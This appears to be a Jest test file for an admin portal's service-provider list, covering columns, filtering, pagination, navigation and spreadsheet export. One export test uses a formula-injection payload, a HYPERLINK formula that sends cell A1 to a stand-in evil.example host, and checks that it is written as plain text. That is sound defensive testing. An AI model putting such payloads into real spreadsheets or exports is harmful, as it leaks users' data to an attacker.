import { act, waitFor } from '@testing-library/react';
import createWrapper from '@cloudscape-design/components/test-utils/dom';
import { readSheet } from 'read-excel-file/universal';
import type { ProviderListItem } from '@shared/api/providers';
import { currentPath, fakeServer, renderPortal, resetPortal, signInAs } from '../support/portal';
import { catchDownloads } from '../support/downloads';

/** /sp: what the platform admin sees of the service providers, read from the fake server. */
const provider = (index: number, overrides: Partial<ProviderListItem> = {}): ProviderListItem => ({
  ServiceProviderID: `sp-${index}`,
  ServiceProviderName: `Provider ${index}`,
  Clinics: index,
  ActivePatientLinkedDeviceCount: index * 10,
  SPExchangeCounter: index * 100,
  ServiceProviderIsEnabled: true,
  IsEnabled: true,
  ServiceProviderAddress: { Country: 'Israel', City: 'Haifa', Street: `Street ${index}` },
  Email: `sp${index}@test.example`,
  Phone: '+1 555 0100',
  FirstName: 'Pia',
  LastName: 'Admin',
  ...overrides,
});

const LIST = '/liberdiAdmins/user-LiberDiAdmin/sp/getAllServiceProviders';

beforeEach(() => resetPortal());
afterEach(() => jest.restoreAllMocks());

const wrapper = () => createWrapper(document.body);
const table = () => wrapper().findTable();
const rows = () => table()?.findRows() ?? [];
const column = (index: number) => rows().map((row) => row.findAll('td')[index]!.getElement().textContent);

async function openList(path = '/sp') {
  signInAs('LiberDiAdmin');
  const server = fakeServer().on('GET', new RegExp(`^${LIST}`), (call) =>
    call.url.includes('cursor=page-2')
      ? { status: 200, body: { items: [provider(3, { ServiceProviderIsEnabled: false, IsEnabled: false })] } }
      : { status: 200, body: { items: [provider(1), provider(2)], cursor: 'page-2' } },
  );
  renderPortal(path);
  await waitFor(() => expect(rows()).toHaveLength(3), { timeout: 5000 });
  return server;
}

it("shows the spec's columns for every page, greys deactivated providers and filters them by status", async () => {
  const server = await openList();
  expect(server.calls.filter((call) => call.url.includes('getAllServiceProviders'))).toHaveLength(2);
  expect(
    table()!
      .findColumnHeaders()
      .map((header) => header.getElement().textContent),
  ).toEqual(['Service Provider Name', 'Activated Clinics', 'Activated Devices', 'Total No. of exchanges']);
  expect(column(0)).toEqual(['Provider 1', 'Provider 2', 'Provider 3']);
  expect(column(3)).toEqual(['100', '200', '300']);
  expect(rows()[2]!.find('[data-row-state="deactivated"]')).not.toBeNull();
  expect(rows()[0]!.find('[data-row-state="deactivated"]')).toBeNull();

  const status = wrapper().findFormField('[data-status-filter]')!;
  expect(status.findLabel()!.getElement().textContent).toBe('Active or Inactive Service Providers');
  act(() => status.findControl()!.findSelect()!.openDropdown());
  act(() => status.findControl()!.findSelect()!.selectOptionByValue('inactive'));
  expect(column(0)).toEqual(['Provider 3']);
  act(() => status.findControl()!.findSelect()!.openDropdown());
  act(() => status.findControl()!.findSelect()!.selectOptionByValue('active'));
  expect(column(0)).toEqual(['Provider 1', 'Provider 2']);
});

it('narrows the list to the provider of the spId query', async () => {
  signInAs('LiberDiAdmin');
  fakeServer().on('GET', new RegExp(`^${LIST}`), { status: 200, body: { items: [provider(1), provider(2)] } });
  renderPortal('/sp?spId=sp-2');
  await waitFor(() => expect(column(0)).toEqual(['Provider 2']), { timeout: 5000 });
  act(() => wrapper().findButton('[data-testid="show-all-providers"]')!.click());
  await waitFor(() => expect(column(0)).toEqual(['Provider 1', 'Provider 2']));
  expect(currentPath()).toBe('/sp');
});

it('exports the listed rows, filtered and in their order, to service-providers.xlsx', async () => {
  await openList();
  const downloads = catchDownloads();
  // Sorted by exchanges, descending (none → ascending → descending), and the inactive one left out.
  const exchanges = table()!.findColumnSortingArea(4)!;
  act(() => exchanges.click());
  act(() => exchanges.click());
  const status = wrapper().findFormField('[data-status-filter]')!.findControl()!.findSelect()!;
  act(() => status.openDropdown());
  act(() => status.selectOptionByValue('active'));

  act(() => wrapper().findButton('[data-testid="export-spreadsheet"]')!.click());
  await waitFor(() => expect(downloads.names).toEqual(['service-providers.xlsx']), { timeout: 5000 });
  const bytes = await downloads.bytes(0);
  expect(await readSheet(bytes)).toEqual([
    ['Service Provider Name', 'Activated Clinics', 'Activated Devices', 'Total No. of exchanges'],
    ['Provider 2', 2, 20, 200],
    ['Provider 1', 1, 10, 100],
  ]);
});

it('writes a provider name a spreadsheet would run as a formula as the text it is (a string cell, not a formula)', async () => {
  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
  signInAs('LiberDiAdmin');
  fakeServer().on('GET', new RegExp(`^${LIST}`), { status: 200, body: { items: [provider(1, { ServiceProviderName: hostile })] } });
  renderPortal('/sp');
  await waitFor(() => expect(rows()).toHaveLength(1), { timeout: 5000 });
  const downloads = catchDownloads();
  act(() => wrapper().findButton('[data-testid="export-spreadsheet"]')!.click());
  await waitFor(() => expect(downloads.names).toEqual(['service-providers.xlsx']), { timeout: 5000 });
  // A formula cell would be read back as its computed value (none here), never as this text.
  expect((await readSheet(await downloads.bytes(0)))[1]).toEqual([hostile, 1, 10, 100]);
});

it('opens a provider’s tabs from its row, and the create form from Add', async () => {
  await openList();
  act(() => table()!.findBodyCell(2, 1)!.click());
  await waitFor(() => expect(currentPath()).toBe('/sp/sptabs?spId=sp-2'));
});

it('opens the create form from Add', async () => {
  await openList();
  act(() => wrapper().findButton('[data-testid="add-provider"]')!.click());
  await waitFor(() => expect(currentPath()).toBe('/sp/createsp'));
});
